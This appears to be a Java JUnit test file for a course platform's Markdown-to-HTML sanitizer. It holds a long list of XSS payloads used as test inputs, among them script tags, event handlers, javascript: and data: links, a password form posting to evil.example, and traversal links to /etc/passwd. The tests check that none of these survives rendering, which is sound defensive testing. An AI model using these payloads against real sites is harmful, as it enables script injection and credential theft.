package org.alongside.catalog.adapter;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.alongside.catalog.adapter.ACourseFolder.aCourse;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.BiFunction;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.alongside.catalog.CourseVersionId;
import org.alongside.catalog.domain.FilesAtHand;
import org.alongside.catalog.domain.Reading;
import org.alongside.catalog.model.CourseSlug;
import org.alongside.catalog.model.Question;
import org.alongside.catalog.model.SafeHtml;
import org.commonmark.node.Node;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Author text is untrusted. Nothing in it becomes a script, a frame, a form, a style or a way to another place. */
class HostileTextTests {

    private static final Pattern TAG = Pattern.compile("<\\s*/?\\s*([a-zA-Z][a-zA-Z0-9:-]*)([^>]*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile("([a-zA-Z_:][-a-zA-Z0-9_:.]*)\\s*=\\s*\"([^\"]*)\"");
    private static final Set<String> ELEMENTS = Set.of(
            "p",
            "br",
            "hr",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "em",
            "strong",
            "code",
            "pre",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "img",
            "div");
    private static final Set<String> ATTRIBUTES = Set.of(
            "href",
            "target",
            "rel",
            "src",
            "alt",
            "width",
            "height",
            "loading",
            "id",
            "start",
            "align",
            "class",
            "role",
            "tabindex",
            "aria-label");

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "text <img src=x onerror=alert(1)> text",
                "<img src=\"x\" onerror=\"alert(1)\">",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
                "<style>body{background:url(//evil.example)}</style>",
                "<p style=\"position:fixed;inset:0\">over it all</p>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=\"//evil.example/\">",
                "<form action=\"//evil.example\"><input name=password><button>Sign in</button></form>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=\"//evil.example/x.swf\">",
                "<a href=\"#\" onclick=\"alert(1)\">click</a>",
                "<div class=\"table-scroll\" onfocus=alert(1) tabindex=0 autofocus>x</div>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<details open ontoggle=alert(1)>x</details>",
                "<!--><script>alert(1)</script>-->",
                "<!-- --!><script>alert(1)</script> -->",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<x-element is=\"evil\">x</x-element>",
                "[click](javascript:alert(1))",
                "[click](JaVaScRiPt:alert(1))",
                "[click](java&#x0A;script:alert(1))",
                "[click](java&Tab;script:alert(1))",
                "[click](&#106;avascript:alert(1))",
                "[click](<javascript:alert(1)>)",
                "[click](\u0001javascript:alert(1))",
                "[click](javascript%3Aalert(1))",
                "[click](vbscript:msgbox(1))",
                "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[click](file:///etc/passwd)",
                "[click](blob:https://example.org/x)",
                "[click](view-source:https://example.org)",
                "[click](//evil.example/x)",
                "[click](/\\evil.example)",
                "[click](\\\\evil.example)",
                "[click](https:evil.example)",
                "[click](..%2f..%2f..%2fetc%2fpasswd)",
                "[click](%2e%2e/%2e%2e/x)",
                "[click][x]\n\n[x]: javascript:alert(1)",
                "[x]\n\n[x]: <javascript:alert(1)> \"title\"",
                "![click][x]\n\n[x]: javascript:alert(1)",
                "<javascript:alert(1)>",
                "<https://example.org/\"onmouseover=alert(1)>",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![x\" onerror=\"alert(1)](images/door.svg)",
                "![x](images/door.svg \"t\\\" onerror=\\\"alert(1)\")",
                "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
                "[x](https://example.org/\"onmouseover=\"alert(1))",
                "[a](https://example.org/<script>)",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "```html\n<table><script>alert(1)</script></table>\n```",
                "``` \"onmouseover=alert(1)\nx\n```",
                "| <script>alert(1)</script> | \" onfocus=alert(1) x=\" |\n| --- | --- |\n| <b>a</b> | b |",
                "| \"><script>alert(1)</script> | b |\n| --- | --- |\n| a | b |",
                "## <img src=x onerror=alert(1)>x\n\ny",
                "## \" onmouseover=\"alert(1)\n\ny",
                "## outlet\" id=\"evil\n\ny",
                "\\<script>alert(1)\\</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "{{constructor.constructor('alert(1)')()}}",
                "${alert(1)} #{alert(1)} *{T(java.lang.Runtime)}",
                "\u202Ereversed\u202C",
                "1. <script>\n2. </script>",
                "> <script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<a\u0000href=\"javascript:alert(1)\">x</a>",
                "<img\fsrc=x\fonerror=alert(1)>",
                "&#0;&#xD800;&#x10FFFF;<b>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingHarmfulIsPrintedWhateverTheRulesSayOfIt(String attack) {
        checkThatItIsHarmless(printedWithoutAsking(attack));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingHarmfulGetsThroughAQuestionEither(String attack) {
        String inline = attack.replace('\n', ' ');
        ACourseFolder course = aCourse()
                .withQuestion("## A " + inline + "\n\n1. [x] B " + inline + "\n   > C " + inline
                        + "\n1. [ ] D\n   > E\n\n> [!NOTE]\n> F " + inline + "\n");
        if (course.read() instanceof Reading.Readable) {
            Question.SingleChoice question =
                    (Question.SingleChoice) course.quiz().questions().getFirst();
            checkThatItIsHarmless(question.stem().heading().html());
            checkThatItIsHarmless(question.stem().body().html());
            checkThatItIsHarmless(question.teaching().explanation().html());
            question.options().forEach(option -> {
                checkThatItIsHarmless(option.text().html());
                checkThatItIsHarmless(option.feedback().html());
            });
        }
    }

    @Test
    void forbiddenSchemesAreTold() {
        assertThat(attacks()
                        .filter(attack -> attack.startsWith("[click](")
                                && !attack.contains("https:evil")
                                && !attack.contains("\u0001")))
                .allSatisfy(
                        attack -> assertThat(aCourse().withLesson(attack + "\n").errors())
                                .as(attack)
                                .isNotEmpty());
    }

    @Test
    void namesOfFilesCannotBreakOutOfAnAddress() {
        List<String> names = List.of(
                "welcome/images/\"onerror=alert(1).svg",
                "welcome/images/<script>.svg",
                "welcome/images/a b.svg",
                "welcome/images/..%2f..svg",
                "welcome/images/\u202Egvs.svg",
                "welcome/images/a\nb.svg",
                "C:\\x.svg",
                "welcome/../../x.svg",
                "/x.svg",
                "welcome//x.svg",
                ".hidden.svg");
        names.forEach(name -> {
            Map<String, byte[]> files = new TreeMap<>();
            aCourse()
                    .files()
                    .paths()
                    .forEach(path -> files.put(path, aCourse().files().bytes(path)));
            files.put(name, "<svg/>".getBytes(UTF_8));
            Reading reading = new MarkdownCourseReader()
                    .read(new FilesAtHand(new CourseSlug("a-course"), files), CourseVersionId.next());
            assertThat(reading).as(name).isInstanceOf(Reading.Faulty.class);
            assertThat(reading.problems().toString()).doesNotContain("\n", "\u202E");
        });
    }

    @Test
    void aSpoofedPictureSizeIsIgnored() {
        assertThat(PictureSize.of("<svg width=\"99999\" height=\"1\">".getBytes(UTF_8)))
                .isEmpty();
        assertThat(PictureSize.of("<svg width=\"1&quot; onload=x\" height=\"1\">".getBytes(UTF_8)))
                .isEmpty();
        assertThat(PictureSize.of("<svg stroke-width=\"3\" viewBox=\"0 0 640 320\">".getBytes(UTF_8)))
                .contains(new PictureSize(640, 320));
        assertThat(PictureSize.of(new byte[] {(byte) 0x89, 'P', 'N', 'G'})).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void textWithGapsIsHarmlessOnceItsPartsAreTogether(String attack) {
        checkThatItIsHarmless(printed(
                "One ____ " + attack + " ____ more.",
                (press, blocks) -> press.printGapped(blocks).parts().stream()
                        .map(SafeHtml::html)
                        .collect(Collectors.joining(Blank.WRITTEN))));
    }

    /** Straight from the parser to the press, past every rule that would have refused it. */
    private static String printedWithoutAsking(String text) {
        return printed(text, (press, blocks) -> press.print(blocks).html());
    }

    private static String printed(String text, BiFunction<HtmlPress, List<Node>, String> printing) {
        Problems problems = new Problems();
        FileName name = FileName.of(ACourseFolder.LESSON);
        Manuscript page = new ManuscriptReader(name, problems.marginOf(name.path()))
                .read(("# Hello\n\n" + text + "\n").getBytes(UTF_8))
                .orElseThrow();
        Map<String, FileName> names =
                new PathRules(problems).keep(aCourse().files().paths());
        CourseMap map = new CourseMap(aCourse().files(), CourseVersionId.next(), names, Map.of(), names.keySet());
        return printing.apply(
                new HtmlPress(page, map), page.blocks().subList(1, page.blocks().size()));
    }

    private static void checkThatItIsHarmless(String printed) {
        String html = printed.replace("<!-- -->", "");
        TAG.matcher(html).results().forEach(tag -> {
            assertThat(ELEMENTS).as(html).contains(tag.group(1).toLowerCase(Locale.ROOT));
            ATTRIBUTE
                    .matcher(tag.group(2))
                    .results()
                    .forEach(attribute -> checkAttribute(attribute.group(1), attribute.group(2)));
            assertThat(ATTRIBUTE.matcher(tag.group(2)).replaceAll("").replace("/", ""))
                    .as(html)
                    .isBlank();
        });
        assertThat(TAG.matcher(html).replaceAll("")).as("only whole tags").doesNotContain("<");
    }

    private static void checkAttribute(String name, String value) {
        assertThat(ATTRIBUTES).contains(name.toLowerCase(Locale.ROOT));
        if (name.equals("href")) {
            assertThat(value).matches("(https?:|mailto:|tel:|learn/|course-files/).*");
        }
        if (name.equals("src")) {
            assertThat(value).startsWith("course-files/");
        }
    }
}
